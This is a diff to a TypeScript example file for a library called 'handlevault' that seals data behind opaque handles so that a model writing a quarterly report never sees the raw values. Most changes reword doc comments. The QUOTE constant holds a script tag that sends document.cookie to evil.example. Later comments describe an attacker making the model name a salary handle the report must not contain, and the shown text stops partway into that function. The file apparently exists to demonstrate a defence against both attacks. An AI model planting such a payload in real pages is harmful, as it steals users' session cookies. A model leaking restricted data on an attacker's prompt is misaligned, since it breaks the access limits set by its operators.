@@ -1,4 +1,4 @@
-/** What is sealed, and what a model wrote about it without having seen it. */
+/** The sealed data, and the text that a model wrote about it without having seen it. */
 import type { OpaqueHandle } from "handlevault";
 import { toTag } from "handlevault/template";
 
@@ -9,7 +9,7 @@ export interface Quarter {
   readonly costs: number;
 }
 
-/** The company's figures: what the report is about. */
+/** The company's figures, which the report is about. */
 export const FIGURES = {
   year: 2026,
   revenue: 18_420,
@@ -22,34 +22,34 @@ export const FIGURES = {
   ] satisfies Quarter[],
 };
 
-/** What a customer wrote. Nobody looked at it before it was sealed. */
+/** A customer's text. It was sealed unread. */
 export const QUOTE =
   'Great service <script>fetch("https://evil.example/?" + document.cookie)</script> & fair prices!';
 
-/** Another department's: whoever serves reports may open it, but it belongs into none. */
+/** A text of another department. The service that delivers reports may open it, but no report may contain it. */
 export const SALARIES = "Chief executive: 412,000 euros";
 
-/** The handles that the story is about. */
+/** The handles of the example. */
 export interface Handles {
   readonly figures: OpaqueHandle;
   readonly quote: OpaqueHandle;
   readonly salaries: OpaqueHandle;
 }
 
-/** What a model wrote: a page and the data of its chart, with handles where values belong. */
+/** The model's output: a page and the data of its chart, with handles in place of values. */
 export interface ModelOutput {
   readonly report: string;
   readonly chart: unknown;
 }
 
-/** The prompt: all that the model ever sees of what was sealed. */
+/** The prompt, which contains all that the model sees of the sealed data. */
 export function promptFor({ figures, quote }: Handles): string {
   return `Write the quarterly report from ${toTag(figures)} and ${toTag(quote)}.`;
 }
 
 /**
- * The model's answer. It stands here as it would come from a service, so that the example runs
- * offline; an attacker had it name a handle that the report was never meant to contain.
+ * The model's response, fixed so that the example runs offline. An attacker made the model name a handle that
+ * the report must not contain.
  */
 export function modelAnswer({ figures, quote, salaries }: Handles): ModelOutput {
   const report = `
